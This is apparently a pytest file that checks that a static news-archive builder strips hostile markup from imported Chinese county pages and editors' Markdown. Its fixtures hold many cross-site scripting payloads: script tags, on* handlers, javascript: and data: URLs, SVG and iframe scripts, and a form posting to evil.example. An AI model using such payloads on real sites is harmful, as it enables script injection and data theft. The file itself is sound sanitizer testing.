"""Hostile pages and articles: nothing from them runs or injects markup in the built site.

Two ways in, each built with `invoke scrape --sources none --inbox INBOX build`
under a temporary ARCHIVE_HOME: a saved county page full of payloads (script,
iframe, on* attributes, javascript: and data: links, SVG and CSS, markup
hidden in text as entities) imported from the inbox, and an editor's
Markdown article with raw HTML in its body and markup in its front matter.
The built HTML is checked with a parser, and in headless Chromium, where
every payload would set `window.__pwned` or open a dialog.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import html as lxml_html

from tests.browser import chromium, local_page, static_server, wait_until
from tests.conftest import scrape_and_build

# Written for this test; every payload would set window.__pwned or alert().
HOSTILE_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8">
<title>甲县&lt;script&gt;window.__pwned=1&lt;/script&gt;整顿软弱涣散村党组织</title>
<script>window.__pwned = "head script";</script>
<style>body { display: none } main::after { content: url(http://evil.example/x) }</style>
<meta http-equiv="refresh" content="0;url=javascript:window.__pwned='refresh'">
</head>
<body onload="window.__pwned='onload'">
<div class="nav"><a href="/">首页</a> &gt; <a href="/news/">新闻</a></div>
<h1>甲县&lt;img src=x onerror=alert(1)&gt;整顿软弱涣散村党组织</h1>
<div class="info">发布时间：2024-05-06 来源：甲县融媒体中心 作者：&lt;b onmouseover=alert(1)&gt;王五&lt;/b&gt;</div>
<div class="content">
<p>近日，甲县对排查出的软弱涣散村党组织开展集中整顿，县委组织部派出工作组驻村指导。</p>
<p onclick="window.__pwned='onclick'">工作组逐村分析问题，&lt;script&gt;alert("text")&lt;/script&gt;制定整顿方案，一村一策推进。</p>
<script>window.__pwned = "body script";</script>
<iframe src="data:text/html,<script>parent.__pwned='iframe'</script>"></iframe>
<p>整顿期间，各村党支部书记参加集中培训，<a href="javascript:window.__pwned='link'">点击查看</a>培训安排。</p>
<svg onload="window.__pwned='svg'"><script>window.__pwned='svg script'</script></svg>
<p>甲县还将整顿成效纳入年度考核，<img src="x" onerror="window.__pwned='img'">确保整顿不走过场。</p>
<object data="data:text/html,<script>alert(1)</script>"></object>
<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">经过三个月整顿，全县软弱涣散村党组织全部转化升级。</p>
<form action="http://evil.example/steal"><input name="q"></form>
</div>
<div class="share">分享到：微信 微博</div>
<div class="footer">版权所有 甲县融媒体中心 ICP备00000000号</div>
</body></html>
"""

HOSTILE_MARKDOWN = """---
title: 乙村<script>window.__pwned='title'</script>集体经济
date: 2024-06-01
slug: hostile-editor
url: "javascript:window.__pwned='original'"
also_at: ["javascript:window.__pwned='also'", "https://county.example/a.html"]
source: <img src=x onerror="window.__pwned='source'">
author: <b onmouseover="window.__pwned='author'">赵六</b>
site: 乙县<script>window.__pwned='site'</script>网
province: 湖北省
tags: [collective_economy]
---

乙村发展村级集体经济，合作社年底分红。<script>window.__pwned = "md script";</script>

<iframe src="javascript:parent.__pwned='md iframe'"></iframe>

<p onmouseover="window.__pwned='md onmouseover'">村里成立了劳务合作社。</p>

[看详情](javascript:window.__pwned='md link') · ![图](data:image/svg+xml,<svg onload=alert(1)>)

<svg><script>window.__pwned='md svg'</script></svg><style>body{display:none}</style>

| 年份 | 收入 |
|:----|----:|
| 2023 | 10 万元 |
"""

EXECUTABLE_URL = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "poster", "xlink:href")


@pytest.fixture(scope="module")
def hostile_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("hostile-home")
    inbox = home / "inbox"
    inbox.mkdir()
    (inbox / "jiaxian-zhengdun.html").write_text(HOSTILE_PAGE, encoding="utf-8")
    editors = home / "content" / "articles"
    editors.mkdir(parents=True)
    (editors / "hostile-editor.md").write_text(HOSTILE_MARKDOWN, encoding="utf-8")
    done = scrape_and_build(home, inbox)
    assert done.returncode == 0, done.stdout + done.stderr
    home.joinpath("build.log").write_text(done.stdout + done.stderr, encoding="utf-8")
    return home


def pages(output: Path) -> Iterator[tuple[Path, object]]:
    for path in sorted(output.rglob("*.html")):
        yield path, lxml_html.fromstring(path.read_bytes())


def test_both_hostile_articles_are_built(hostile_home: Path) -> None:
    articles = sorted(p.name for p in (hostile_home / "output" / "articles").glob("*.html"))
    assert "hostile-editor.html" in articles and len(articles) == 2, articles


def test_no_built_page_holds_script_frames_handlers_or_executable_urls(hostile_home: Path) -> None:
    output = hostile_home / "output"
    problems: list[str] = []
    for path, tree in pages(output):
        where = path.relative_to(output)
        for script in tree.iter("script"):
            if not (script.get("src") or "").endswith("/js/search.js") or script.text:
                problems.append(f"{where}: <script> {script.get('src')!r}")
        for tag in ("iframe", "frame", "object", "embed", "applet", "form", "base"):
            problems += [f"{where}: <{tag}>" for _ in tree.iter(tag) if tag != "form"
                         or (_.get("action") or "").split("/")[-1] != "search.html"]  # fmt: skip
        for element in tree.iter():
            if not isinstance(element.tag, str):
                continue
            for name, value in element.attrib.items():
                if name.lower().startswith("on"):
                    problems.append(f"{where}: {element.tag} {name}=")
                lowered = "".join(value.split()).lower()
                favicon = element.tag == "link" and value == "data:,"  # the empty favicon
                if name.lower() in URL_ATTRIBUTES and lowered.startswith(EXECUTABLE_URL):
                    problems += [] if favicon else [f"{where}: {element.tag} {name}={value[:40]!r}"]
        for meta in tree.iter("meta"):
            if (meta.get("http-equiv") or "").lower() == "refresh":
                problems.append(f"{where}: meta refresh")
        for body in tree.xpath("//main//*[@class='article-body' or self::article]//*[@style]"):
            if "text-align" not in body.get("style", ""):
                problems.append(f"{where}: style={body.get('style')!r}")
    assert problems == []


def test_markup_hidden_in_text_is_shown_as_text(hostile_home: Path) -> None:
    page = (hostile_home / "output" / "articles" / "hostile-editor.html").read_text("utf-8")
    tree = lxml_html.fromstring(page)
    assert "<script>" in tree.findtext(".//h1").replace(" ", "")  # the title, as text
    facts = tree.xpath("string(//dl)")
    assert "onerror" in facts and "赵六" in facts  # source and author shown, not run
    assert not tree.xpath("//dl//a[contains(@href, 'javascript')]")
    assert "javascript:window.__pwned='original'" in facts  # shown, not linked
    assert tree.xpath("//a[@href='https://county.example/a.html']")  # the http link stays
    assert tree.xpath("//table//td[contains(., '10 万元')]")  # editors' tables survive


def test_an_editor_is_told_what_was_removed(hostile_home: Path) -> None:
    log = (hostile_home / "build.log").read_text(encoding="utf-8")
    assert "hostile-editor.md" in log and "script" in log and "on* attribute" in log


def test_no_script_from_content_runs_in_a_browser(hostile_home: Path) -> None:
    output = hostile_home / "output"
    with (
        static_server(output) as base,
        chromium() as browser,
        local_page(browser, base) as (page, elsewhere),
    ):
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        visited = [
            *(f"articles/{p.name}" for p in (output / "articles").glob("*.html")),
            "index.html", "sites/index.html", "search.html?q=整顿", "search.html?q=集体经济",
        ]  # fmt: skip
        for path in visited:
            page.goto(f"{base}/{path}")
            page.wait_for_load_state("networkidle")
            if path.startswith("search.html"):  # the search works under the pages' policy
                wait_until(page, "document.getElementById('search-app').dataset.state === 'done'")
                assert page.evaluate("document.querySelectorAll('.result').length") == 1, path
            for link in page.locator("main a").all()[:40]:
                link.hover()  # mouseover handlers, if any survived
            assert page.evaluate("window.__pwned") is None, path
            assert page.evaluate("getComputedStyle(document.body).display") != "none", path
    assert dialogs == [] and elsewhere == []
